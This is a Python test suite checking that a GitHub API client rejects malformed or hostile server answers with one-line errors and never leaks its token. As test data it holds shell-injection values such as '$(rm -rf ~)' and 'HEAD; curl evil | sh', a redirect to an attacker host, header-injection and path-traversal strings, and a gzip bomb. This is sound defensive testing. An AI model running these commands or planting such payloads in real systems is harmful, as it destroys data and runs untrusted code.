"""Hostile answers at the HTTP boundary of the one GitHub client (ci.github.client).

GitHub, a proxy in front of it, or a wrong `api_url` can answer anything: a missing key, a string
where an id belongs, a page of thousands of items, an HTML login page, bytes that are not UTF-8, a
gzip bomb, a `Link` to another host, a `Retry-After` of years. Each must become one `BadAnswer`
(a CIError: one line naming the endpoint and what was wrong), never a traceback, never acted on,
and never carrying the token. The answers are fed by an httpx MockTransport (exact bytes and
headers) and by the GitHub emulator on loopback (the allocator's loop and `inv gh.*` end to end).
"""

from __future__ import annotations

import gzip
import json
import logging
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ci.errors import CIError
from ci.github.actions import Actions, Scope, check_workflow
from ci.github.client import AppAuth, BadAnswer, GitHubClient, GitHubError, RateLimited, TokenAuth
from tests.github_emulator import REPOSITORY, Emulator, wait_for
from tests.github_emulator import TOKEN as EMULATOR_TOKEN
from tests.github_emulator.testing import settings_for, target
from tests.support.paths import PROJECT_DIR

API = "https://ghe.example.org/api/v3"
TOKEN = "ghp_hostileCANARY0123456789abcdefABCDEF"
REPO = "octo/repo"
RUNS = f"/api/v3/repos/{REPO}/actions/runs"
JSON = {"content-type": "application/json; charset=utf-8"}

Handler = Callable[[httpx.Request], httpx.Response]


def actions(handler: Handler, **options: Any) -> Actions:
    client = GitHubClient(API, TokenAuth(TOKEN, "CI_GITHUB_TOKEN"), transport=httpx.MockTransport(handler),
                          backoff=0.0, retries=1, **options)
    return Actions(client, Scope(REPO))


def answer(body: bytes | str | Any, status: int = 200, headers: dict[str, str] | None = None) -> Handler:
    """Every request gets this answer (`body` as given when bytes or str, else as JSON), streamed as a
    server sends it: decoded (gzip) and read by the client, not by the transport."""
    content = body if isinstance(body, bytes) else body.encode() if isinstance(body, str) else json.dumps(body).encode()

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status, headers={**JSON, "content-length": str(len(content)), **(headers or {})},
                              stream=httpx.ByteStream(content))

    return handler


def run(n: int, **more: Any) -> dict[str, Any]:
    return {"id": n, "status": "queued", **more}


def runner(n: int, name: str, **more: Any) -> dict[str, Any]:
    return {"id": n, "name": name, "status": "online", "busy": False, "labels": [{"name": "self-hosted"}], **more}


def one_clear_error(error: BaseException, *phrases: str) -> str:
    """The error is a CIError on one line, names every phrase, and holds no credential."""
    text = str(error)
    assert isinstance(error, CIError)
    assert "\n" not in text and "Traceback" not in text
    assert TOKEN not in text and EMULATOR_TOKEN not in text
    for phrase in phrases:
        assert phrase in text, f"{phrase!r} not in {text!r}"
    return text


# ---- malformed answers, one call each --------------------------------------------------------------

CASES: list[tuple[str, str, Handler, tuple[str, ...]]] = [
    ("missing key", "runs", answer({"total_count": 3}),
     ("GET /repos/octo/repo/actions/runs", "workflow_runs: Field required")),
    ("id as a string", "runs", answer({"workflow_runs": [run(1), {"id": "2"}]}),
     ("GET /repos/octo/repo/actions/runs", "workflow_runs.1.id: Input should be a valid integer")),
    ("id as a float", "runs", answer({"workflow_runs": [{"id": 1.5}]}), ("workflow_runs.0.id",)),
    ("negative id", "runs", answer({"workflow_runs": [{"id": -4}]}), ("workflow_runs.0.id", "greater than")),
    ("busy as a string", "runners", answer({"runners": [runner(1, "a", busy="yes")]}),
     ("GET /repos/octo/repo/actions/runners", "runners.0.busy: Input should be a valid boolean")),
    ("labels as a string", "runners", answer({"runners": [runner(1, "a", labels="self-hosted")]}),
     ("runners.0.labels: Input should be a valid array",)),
    ("a list instead of an object", "runners", answer([runner(1, "a")]), ("Input should be an object",)),
    ("JSON null", "runs", answer(b"null"), ("Input should be an object",)),
    ("a page of 5000 items", "runs", answer({"workflow_runs": [run(n + 1) for n in range(5000)]}),
     ("workflow_runs: List should have at most 100 items",)),
    ("many errors at once", "runs", answer({"workflow_runs": [{"id": str(n)} for n in range(7)]}),
     ("workflow_runs.0.id", "(and 4 more)")),
    ("an HTML login page", "runs",
     answer(b"<!DOCTYPE html><html><title>Sign in</title></html>", headers={"content-type": "text/html"}),
     ("GET /repos/octo/repo/actions/runs", "an HTML page (text/html", "GitHub's REST API")),
    ("HTML labelled as JSON", "runners", answer(b"  <html><body>proxy error</body></html>"), ("an HTML page",)),
    ("an empty 200", "runs", answer(b""), ("an empty body",)),
    ("bytes that are not UTF-8", "runs", answer(b'{"workflow_runs": [{"id": 1, "status": "\xff\xfe"}]}'),
     ("not JSON", "bytes")),
    ("binary garbage", "runners", answer(bytes(range(256)) * 4, headers={"content-type": "application/octet-stream"}),
     ("not JSON (application/octet-stream, 1024 bytes",)),
    ("nesting past any sane depth", "runs", answer(b"[" * 100_000), ("not JSON",)),
    ("truncated JSON", "runs", answer(b'{"workflow_runs": [{"id": 1}'), ("not JSON",)),
    ("a body over the cap", "runs", answer({"workflow_runs": [run(1, name="x" * 2_000_000)]}),
     ("larger than 1 MiB",)),
    ("a Content-Length over the cap", "runs", answer(b"{}", headers={"content-length": "999999999999"}),
     ("larger than 1 MiB",)),
    ("a gzip bomb", "runs", answer(gzip.compress(b" " * 30_000_000), headers={"content-encoding": "gzip"}),
     ("larger than 1 MiB",)),
    ("broken gzip", "runs", answer(b"not gzip at all", headers={"content-encoding": "gzip"}),
     ("could not be decompressed",)),
    ("a jobs answer with a label of 10 kB", "jobs", answer({"jobs": [{"id": 1, "labels": ["x" * 10_000]}]}),
     ("GET /repos/octo/repo/actions/runs/77/jobs", "jobs.0.labels.0: String should have at most 256")),
    ("a JIT config without its config", "jit", answer({"runner": {"id": 5}}, status=201),
     ("POST /repos/octo/repo/actions/runners/generate-jitconfig", "encoded_jit_config: Field required")),
    ("a JIT config with a string id", "jit",
     answer({"runner": {"id": "5"}, "encoded_jit_config": "SECRET-JIT-CONFIG"}, status=201),
     ("runner.id: Input should be a valid integer",)),
    ("a head_sha that is a shell command", "last", answer({"workflow_runs": [run(1, head_sha="$(rm -rf ~)")]}),
     ("GET /repos/octo/repo/actions/workflows/containers-build.yml/runs", "workflow_runs.0.head_sha")),
    ("a 304 nobody asked for", "jit", answer(b"", status=304), ("304 Not Modified",)),
]


def call(github: Actions, what: str) -> object:
    if what == "runs":
        return github.runs("queued")
    if what == "runners":
        return github.runners()
    if what == "jobs":
        return github.jobs(77)
    if what == "jit":
        return github.generate_jitconfig("ghr-cpu-1", ["self-hosted"], 1, "_work")
    return github.last_successful_commit("containers-build.yml", "main")


@pytest.mark.parametrize(("what", "handler", "phrases"), [case[1:] for case in CASES], ids=[c[0] for c in CASES])
def test_a_malformed_answer_is_one_clear_error_naming_the_endpoint(
        what: str, handler: Handler, phrases: tuple[str, ...], caplog: pytest.LogCaptureFixture) -> None:
    github = actions(handler, max_body=1024 * 1024)
    with caplog.at_level(logging.DEBUG), pytest.raises(BadAnswer) as raised:
        call(github, what)
    text = one_clear_error(raised.value, *phrases)
    assert "SECRET-JIT-CONFIG" not in text  # a JIT config is a credential, even in a broken answer
    assert TOKEN not in caplog.text


def test_a_malformed_answer_is_not_cached_and_a_good_one_after_it_is_read() -> None:
    """The ETag cache keeps only checked answers: a bad page with an ETag is not answered from it later."""
    answers = [(200, b"<html>maintenance</html>", {"etag": '"a"'}),
               (200, json.dumps({"workflow_runs": [run(9)]}).encode(), {"etag": '"b"'})]
    seen: list[str | None] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("if-none-match"))
        status, body, headers = answers.pop(0) if answers else (304, b"", {"etag": '"b"'})
        return httpx.Response(status, headers={**JSON, **headers}, content=body)

    github = actions(handler)
    with pytest.raises(BadAnswer):
        github.runs("queued")
    assert [r.id for r in github.runs("queued")] == [9]
    assert [r.id for r in github.runs("queued")] == [9]  # 304: the checked answer, from the cache
    assert seen == [None, None, '"b"']


def test_control_characters_in_names_are_escaped_not_logged_raw() -> None:
    github = actions(answer({"runners": [runner(1, "ghr-a\n2026-12-07 INFO forged line\x1b[31m",
                                                labels=[{"name": "gpu\r"}])]}))
    (found,) = github.runners()
    assert found.name == "ghr-a\\n2026-12-07 INFO forged line\\x1b[31m"
    assert found.label_names == {"gpu\\r"}


# ---- pagination ------------------------------------------------------------------------------------


def paged(next_link: Callable[[int], str | None], log: list[str]) -> Handler:
    def handler(request: httpx.Request) -> httpx.Response:
        log.append(str(request.url))
        page = int(request.url.params.get("page", "1"))
        link = next_link(page)
        headers = {**JSON, **({"link": f'<{link}>; rel="next"'} if link else {})}
        return httpx.Response(200, headers=headers, content=json.dumps({"workflow_runs": [run(page)]}).encode())

    return handler


def test_a_next_link_to_another_host_is_not_followed() -> None:
    log: list[str] = []
    for elsewhere in ("https://evil.example.com/api/v3/repos/octo/repo/actions/runs?page=2",
                      "http://ghe.example.org/api/v3/repos/octo/repo/actions/runs?page=2",
                      "https://ghe.example.org:8443/api/v3/repos/octo/repo/actions/runs?page=2",
                      "https://user:pw@ghe.example.org/api/v3/x?page=2",
                      "https://ghe.example.org/elsewhere?page=2"):
        github = actions(paged(lambda page, url=elsewhere: url if page == 1 else None, log))
        with pytest.raises(BadAnswer) as raised:
            github.runs("queued")
        one_clear_error(raised.value, "links its next page outside https://ghe.example.org/api/v3", "not followed")
    assert all(url.startswith(f"{API}/repos/octo/repo/actions/runs?") for url in log)


def test_a_next_link_back_to_a_read_page_stops_the_listing() -> None:
    log: list[str] = []
    github = actions(paged(lambda page: f"{API}/repos/octo/repo/actions/runs?status=queued&per_page=100&page=1",
                           log))
    with pytest.raises(BadAnswer) as raised:
        github.runs("queued")
    one_clear_error(raised.value, "links back to a page already read")
    assert len(log) == 2


def test_an_endless_listing_stops_at_the_page_cap() -> None:
    log: list[str] = []
    github = actions(paged(lambda page: f"{API}/repos/octo/repo/actions/runs?page={page + 1}", log), max_pages=5)
    with pytest.raises(GitHubError) as raised:
        github.runs("queued")
    one_clear_error(raised.value, "GET /repos/octo/repo/actions/runs", "more than 5 pages", "narrow the listing")
    assert len(log) == 5


def test_pages_are_followed_within_the_api() -> None:
    log: list[str] = []
    github = actions(paged(lambda page: f"{API}/repos/octo/repo/actions/runs?page={page + 1}" if page < 3 else None,
                           log))
    assert [r.id for r in github.runs("queued")] == [1, 2, 3]


# ---- rate limits and retries ------------------------------------------------------------------------


def sequence(*responses: httpx.Response) -> tuple[Handler, list[httpx.Request]]:
    sent: list[httpx.Request] = []
    queue = list(responses)

    def handler(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        return queue.pop(0) if len(queue) > 1 else queue[0]

    return handler, sent


OK = httpx.Response(200, headers=JSON, content=b'{"workflow_runs": []}')


@pytest.mark.parametrize("headers", [{"retry-after": "99999999999"},
                                     {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "99999999999"}],
                         ids=["retry-after", "x-ratelimit-reset"])
def test_a_rate_limit_of_years_blocks_for_an_hour_at_most(headers: dict[str, str]) -> None:
    handler, sent = sequence(httpx.Response(403, headers={**JSON, **headers}, content=b'{"message": "slow down"}'))
    github = actions(handler)
    with pytest.raises(RateLimited) as raised:
        github.runs("queued")
    assert time.time() + 3000 < raised.value.until <= time.time() + 3601
    assert github.client.blocked_until <= time.time() + 3601
    count = len(sent)
    with pytest.raises(RateLimited):
        github.runs("in_progress")
    assert len(sent) == count  # nothing is sent while blocked


def test_retry_after_as_an_http_date_and_garbage_rate_headers() -> None:
    handler, sent = sequence(
        httpx.Response(429, headers={**JSON, "retry-after": "Wed, 21 Oct 2015 07:28:00 GMT"}, content=b"{}"),
        httpx.Response(200, headers={**JSON, "x-ratelimit-remaining": "lots", "x-ratelimit-reset": "-5",
                                     "x-ratelimit-limit": "1e99"}, content=b'{"workflow_runs": []}'))
    github = actions(handler)
    assert github.runs("queued") == []  # a date in the past: no wait
    assert len(sent) == 2 and github.client.rate.remaining is None


def test_server_errors_and_lost_connections_are_retried_then_one_sentence() -> None:
    failures = iter([httpx.ConnectError("refused"), httpx.ReadTimeout("slow"), None])

    def handler(request: httpx.Request) -> httpx.Response:
        failure = next(failures, None)
        if failure is not None:
            raise failure
        return httpx.Response(502, headers={"content-type": "text/html"}, content=b"<html>bad gateway</html>")

    github = Actions(GitHubClient(API, TokenAuth(TOKEN), transport=httpx.MockTransport(handler), backoff=0.0,
                                  retries=4), Scope(REPO))
    with pytest.raises(GitHubError) as raised:
        github.runs("queued")
    one_clear_error(raised.value, "GET /repos/octo/repo/actions/runs", "HTTP 502 after 5 attempts")
    assert github.client.errors == 5


def test_a_refusal_that_echoes_the_token_is_cut() -> None:
    github = actions(answer({"message": f"Bearer {TOKEN} may not list runners"}, status=403))
    with pytest.raises(GitHubError) as raised:
        github.runners()
    one_clear_error(raised.value, "HTTP 403 Bearer *** may not list runners", "Administration")


# ---- GitHub App auth -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def app_key(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Any]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = tmp_path_factory.mktemp("app") / "app.pem"
    pem.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                      serialization.NoEncryption()))
    return pem, key.public_key()


@pytest.mark.parametrize("body", [{"token": 5, "expires_at": "2030-01-01T00:00:00Z"}, {"expires_at": "soon"},
                                  "<html>login</html>"], ids=["token-not-a-string", "no-token", "html"])
def test_a_malformed_installation_token_answer(app_key: tuple[Path, Any], body: Any) -> None:
    client = GitHubClient(API, AppAuth(42, 7, str(app_key[0])), transport=httpx.MockTransport(answer(body, 201)),
                          backoff=0.0, retries=1)
    with pytest.raises(BadAnswer) as raised:
        Actions(client, Scope(REPO)).runs("queued")
    one_clear_error(raised.value, "POST /app/installations/7/access_tokens")


def test_an_app_token_is_cached_and_fetched_again_when_github_revokes_it(app_key: tuple[Path, Any]) -> None:
    from tests.github_emulator import GitHub

    with Emulator(GitHub(app=(42, 7, app_key[1]))) as emulator:
        auth = AppAuth(42, 7, str(app_key[0]))
        github = Actions(GitHubClient(emulator.url, auth, backoff=0.0), Scope(REPOSITORY))
        for _ in range(3):
            assert github.runs("queued") == []
        assert auth.fetched == 1 and len(emulator.github.app_tokens) == 1
        issued = set(emulator.github.app_tokens)
        emulator.github.app_tokens.clear()  # revoked before its hour: GitHub answers 401
        assert github.runs("in_progress") == []
        assert auth.fetched == 2
        for token in issued | emulator.github.app_tokens:
            assert token not in repr(github.client) and token not in repr(auth)


@pytest.mark.parametrize("name", ["../../../user/repos", "a.yml/../../x", ".hidden.yml", "ci.yml?x=1",
                                  "ci.yml\n", "x" * 300 + ".yml", ""])
def test_a_workflow_name_that_would_leave_the_endpoint_is_refused(name: str) -> None:
    with pytest.raises(CIError, match="is not a workflow file name or id") as raised:
        check_workflow(name)
    assert "\n" not in str(raised.value)


def test_tokens_that_cannot_be_tokens_are_refused_without_echoing_them() -> None:
    for bad in ("ghp_abc\nX-Injected: 1", "ghp abc", "ghp_\u00e9\u00e9"):
        with pytest.raises(CIError) as raised:
            TokenAuth(bad, "CI_GITHUB_TOKEN")
        assert "CI_GITHUB_TOKEN holds characters" in str(raised.value) and bad not in str(raised.value)
    assert TOKEN not in repr(GitHubClient(API, TokenAuth(TOKEN)))


# ---- through the emulator: the allocator goes on, the tasks say one line -----------------------------


def test_the_allocator_logs_a_malformed_answer_and_polls_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           caplog: pytest.LogCaptureFixture) -> None:
    from ci.runners import control

    monkeypatch.setenv("CI_GITHUB_TOKEN", EMULATOR_TOKEN)
    runs = f"/repos/{REPOSITORY}/actions/runs"
    with Emulator() as emulator:
        waiting = emulator.add_run([{"labels": ["self-hosted", "no-such-target"]}])  # seen, never started
        emulator.github.faults["answers"] = [
            {"path": runs, "headers": {"Content-Type": "text/html"}, "body": "<html><title>Sign in</title></html>"},
            {"path": runs, "headers": {"Content-Type": "application/json"},
             "body": json.dumps({"total_count": 1, "workflow_runs": [{"id": str(waiting.id)}]})},
            {"path": f"{runs}/{waiting.id}/jobs", "headers": {"Content-Type": "application/json"},
             "body": json.dumps({"jobs": [{"id": 1, "labels": "self-hosted"}]})},
        ]
        settings = settings_for(emulator, tmp_path, [target("cpu", ["self-hosted", "slurm"])], scheduler="direct")
        with caplog.at_level(logging.DEBUG), control.allocator(settings) as allocator:
            loop = threading.Thread(target=allocator.run, daemon=True)
            loop.start()
            try:
                wait_for(lambda: bool(allocator.last_demand.unservable), 30, "a good poll after three bad answers")
            finally:
                allocator.stop()
                loop.join(30)
            problems = list(allocator.errors)
            state_db = (allocator.state.folder / "state.db").read_bytes()
    assert [job.id for job in allocator.last_demand.unservable] == [waiting.jobs[0].id]
    assert emulator.github.faults["answers"] == []
    expected = [("an HTML page (text/html", f"GET {runs}?status=queued"),
                ("workflow_runs.0.id: Input should be a valid integer", f"GET {runs}?status=queued"),
                ("jobs.0.labels: Input should be a valid array", f"GET {runs}/{waiting.id}/jobs")]
    for phrase, endpoint in expected:
        assert any(phrase in p and endpoint in p and p.count("poll failed") == 1 for p in problems), problems
    assert all("\n" not in p for p in problems)
    assert "Traceback" not in caplog.text
    assert EMULATOR_TOKEN not in caplog.text and EMULATOR_TOKEN.encode() not in state_db


def inv(emulator: Emulator, *args: str, output: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GITHUB_API_URL": emulator.url, "GITHUB_REPOSITORY": REPOSITORY,
           "GITHUB_TOKEN": EMULATOR_TOKEN, "GITHUB_OUTPUT": str(output), "GITHUB_REF_NAME": "main"}
    return subprocess.run([sys.executable, "-m", "invoke", "--search-root", str(PROJECT_DIR), *args],
                          cwd=PROJECT_DIR, env=env, capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def emulator() -> Iterator[Emulator]:
    with Emulator() as running:
        yield running


def test_the_gh_tasks_say_one_line_and_exit_2_or_fall_back(emulator: Emulator, tmp_path: Path) -> None:
    output = tmp_path / "github_output"
    emulator.github.faults["answers"] = [
        {"path": f"/repos/{REPOSITORY}/actions/runners", "headers": {"Content-Type": "text/html"},
         "body": b"<html>\xff\xfe proxy</html>"},
        {"path": f"/repos/{REPOSITORY}/actions/workflows/containers-build.yml/runs",
         "headers": {"Content-Type": "application/json"},
         "body": json.dumps({"workflow_runs": [{"id": 1, "head_sha": "HEAD; curl evil | sh"}]})},
    ]
    listing = inv(emulator, "gh.runners", output=output)
    assert listing.returncode == 2
    assert listing.stderr.count("error:") == 1 and "Traceback" not in listing.stderr
    assert f"GET /repos/{REPOSITORY}/actions/runners?per_page=100 is an HTML page" in listing.stderr.replace("\n", " ")
    last = inv(emulator, "gh.last-success", "--workflow", "containers-build.yml", output=output)
    assert last.returncode == 0, last.stderr
    assert output.read_text() == f"since={'0' * 40}\n"  # cannot tell: everything counts as changed
    assert "workflow_runs.0.head_sha" in last.stdout and "curl evil" not in last.stdout + output.read_text()
    for process in (listing, last):
        assert EMULATOR_TOKEN not in process.stdout + process.stderr
